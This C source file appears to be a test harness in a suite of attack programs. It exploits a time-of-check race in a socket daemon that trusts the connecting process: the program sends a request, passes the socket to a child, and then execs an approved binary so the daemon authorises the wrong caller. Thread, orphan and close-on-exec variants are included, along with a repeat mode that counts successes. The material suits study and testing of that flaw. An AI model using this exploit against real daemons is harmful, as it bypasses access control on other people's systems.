/*
 * Connects, asks, leaves the socket to a child that reads the answer, and executes an approved program: the process that
 * connected is an approved one by the time the daemon looks.
 *
 * Named attacker-thread it has another thread than its first execute, named attacker-orphan after the first has ended.
 * Named attacker-closing its own descriptor ends with the exec: the approved program holds none.
 *
 *   exec_after_connect SOCKET REQUEST DAEMON VICTIM         the daemon sleeps meanwhile
 *   exec_after_connect SOCKET REQUEST DAEMON VICTIM COUNT   again and again beside a daemon that is awake
 */
#include "attack.h"
#include <pthread.h>

static char **arguments;
static int *granted;

static void *execute(void *first)
{
    if (first)
        pthread_join(*(pthread_t *)first, NULL);
    execl(arguments[4], arguments[4], NULL);
    fail("exec");
    return NULL;
}

static void execute_somehow(void)
{
    static pthread_t first;
    pthread_t other;
    int orphan = strcmp(VARIANT, "attacker-orphan") == 0;
    if (!orphan && strcmp(VARIANT, "attacker-thread") != 0)
        execute(NULL);
    first = pthread_self();
    if (pthread_create(&other, NULL, execute, orphan ? &first : NULL) != 0)
        fail("pthread_create");
    if (orphan)
        pthread_exit(NULL);
    pause();
}

static void attempt(int directed)
{
    pid_t daemon = atoi(arguments[3]);
    if (directed)
        stop(daemon);
    lseek(0, 0, SEEK_SET); /* An interpreter has read its program from here in the attempt before. */
    int fd = dial(arguments[1], strcmp(VARIANT, "attacker-closing") == 0 ? SOCK_CLOEXEC : 0);
    say(fd, arguments[2]);
    if (fork() == 0) {
        pid_t victim = getppid();
        if (directed) {
            until_named(victim, "waiting");
            go_on(daemon);
        }
        *granted += show(fd);
        kill(victim, SIGKILL);
        _exit(0);
    }
    execute_somehow();
}

int main(int argc, char **argv)
{
    arguments = argv;
    granted = shared();
    int count = argc > 5 ? atoi(argv[5]) : 1;
    for (int i = 0; i < count; i++) {
        if (fork() == 0)
            attempt(argc == 5);
        wait(NULL);
    }
    printf("%d of %d granted\n", *granted, count);
    return 0;
}
